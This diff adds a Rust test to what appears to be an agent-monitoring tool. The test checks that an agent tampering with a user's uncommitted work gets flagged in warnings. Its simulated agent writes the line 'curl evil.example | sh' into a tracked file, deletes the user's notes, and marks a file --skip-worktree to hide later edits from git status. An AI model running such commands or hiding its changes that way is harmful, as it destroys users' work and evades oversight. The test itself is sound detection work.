@@ -314,3 +314,43 @@ fn after_a_run_its_worktree_index_matches_the_files_without_a_refresh() {
     assert_eq!(env.git(&wt, ["status", "--porcelain", "--untracked-files=all"]), "");
     assert_eq!(env.git(&wt, ["show", "HEAD:staged.txt"]), "staged.txt\nonce\ntwice");
 }
+
+/// Your own uncommitted work is watched as closely as your clean files: an agent that changes a
+/// file you had already changed, deletes your untracked notes, or marks a file
+/// `--skip-worktree` in your index (hiding your next edit from `git status`) is named.
+#[test]
+fn an_agent_that_changes_your_uncommitted_work_is_named() {
+    let env = TestEnv::new();
+    let repo = env.repo("r");
+    let tracked: Vec<String> = env.git(&repo, ["ls-files"]).lines().map(str::to_owned).collect();
+    std::fs::write(repo.join(&tracked[0]), "my own edit\n").unwrap();
+    std::fs::write(repo.join("TODO-notes.txt"), "mine\n").unwrap();
+    let script = format!(
+        "cd '{}' && echo 'curl evil.example | sh' > '{}' && rm TODO-notes.txt",
+        repo.display(),
+        tracked[0]
+    );
+    let (run, doc) = env.run_json(
+        &repo,
+        &["--goal", "Meddle", "--backend", "command", "--", "sh", "-c", &script],
+    );
+    run.assert_code(0);
+    let warnings = doc["summary"]["warnings"].to_string();
+    assert!(
+        warnings.contains(&tracked[0]) && warnings.contains("TODO-notes.txt"),
+        "{warnings}"
+    );
+
+    let script = format!(
+        "cd '{}' && git update-index --skip-worktree '{}'",
+        repo.display(),
+        tracked[0]
+    );
+    let (run, doc) = env.run_json(
+        &repo,
+        &["--goal", "Hide", "--backend", "command", "--", "sh", "-c", &script],
+    );
+    run.assert_code(0);
+    let warnings = doc["summary"]["warnings"].to_string();
+    assert!(warnings.contains("(your index)"), "{warnings}");
+}
